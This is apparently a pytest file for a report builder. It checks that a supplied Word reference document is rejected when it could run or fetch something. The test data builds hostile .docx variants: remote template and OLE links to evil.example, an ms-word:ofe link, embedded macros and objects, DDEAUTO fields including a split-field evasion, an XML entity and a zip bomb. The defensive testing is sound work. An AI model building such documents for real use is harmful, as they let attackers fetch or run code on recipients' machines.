"""A reference document that came with a report can neither run anything nor make Word fetch something."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from altreport.readers.reference_document import read_reference
from looking import at, command, look
from small_report import write_report

NAME = "templates/docx/reference.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def saved(**changed: tuple[bytes, bytes]) -> bytes:
    """A document that Word made (python-docx ships it), with something replaced in the parts named; new parts have nothing to replace."""
    stream, made = io.BytesIO(), io.BytesIO()
    docx.Document().save(stream)
    changes = {name.replace("__", "/"): change for name, change in changed.items()}
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            before, after = changes.get(info.filename.replace(".xml", "").replace(".rels", ""), (b"", b""))
            assert before in data
            new.writestr(info.filename, data.replace(before, after, 1) if before else data)
    return made.getvalue()


def linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    added = f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return saved(word___rels__document=(b"</Relationships>", added))


def with_field(xml: str) -> bytes:
    return saved(word__document=(b"<w:sectPr", f"<w:p>{xml}</w:p><w:sectPr".encode()))


def bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", bytes(201_000_000))
    return made.getvalue()


SPLIT = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r>'
REFUSED = {
    "a template elsewhere": (lambda: linked("attachedTemplate", "https://evil.example/t.dotm"), "would load"),
    "a picture elsewhere": (lambda: linked("image", "https://evil.example/seen.png"), "would load"),
    "an object elsewhere": (lambda: linked("oleObject", "https://evil.example/x.doc"), "would load"),
    "a link that runs": (lambda: linked("hyperlink", "ms-word:ofe|u|https://evil.example/x"), "which no link may have"),
    "an object": (lambda: linked("oleObject", "embeddings/x.bin", ""), "would run or open (oleObject)"),
    "a macro": (lambda: linked("vbaProject", "vbaProject.bin", ""), "would run or open (vbaProject)"),
    "another document in it": (lambda: linked("aFChunk", "x.html", ""), "would run or open (aFChunk)"),
    "a type of macros": (
        lambda: saved(**{"[Content_Types]": (b"document.main+xml", b"document.macroEnabled.main+xml")}),
        "holds a program",
    ),
    "a field that starts a program": (lambda: with_field('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\x "/>'), "a field DDEAUTO"),
    "a field in pieces": (lambda: with_field(SPLIT), "a field DDEAUTO"),
    "an entity": (lambda: saved(word__document=(b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document')), "not a Word file"),
    "far more than it seems": (bomb, "larger when unpacked"),
    "no archive": (lambda: b"PK\x03\x04", "not a Word file"),
    "an archive of nothing": (lambda: b"PK\x05\x06" + bytes(18), "not a Word file"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_would_run_or_be_fetched_is_refused_by_the_check(tmp_path, what) -> None:
    make, said = REFUSED[what]
    problems = [problem for problem in look(tmp_path, {NAME: make()}) if problem.place.path == NAME]
    assert [at(problem) for problem in problems[:1]] == [f"template {NAME}:1:1"]
    assert said in problems[0].message
    assert read_reference(tmp_path).value is None


def test_a_document_of_words_own_is_taken(tmp_path) -> None:
    data = linked("hyperlink", "https://example.org/")
    write_report(tmp_path, {NAME: data})
    assert read_reference(tmp_path).problems == ()
    assert read_reference(tmp_path).value == data


def test_a_draft_is_not_made_with_it_either(tmp_path) -> None:
    look(tmp_path, {NAME: linked("attachedTemplate", "https://evil.example/t.dotm")})
    done = command("build", "docx", "--draft", "--root", str(tmp_path))
    assert done.returncode == 1
    assert "would load" in done.stderr
    assert not (tmp_path / "build/public/report.docx").exists()
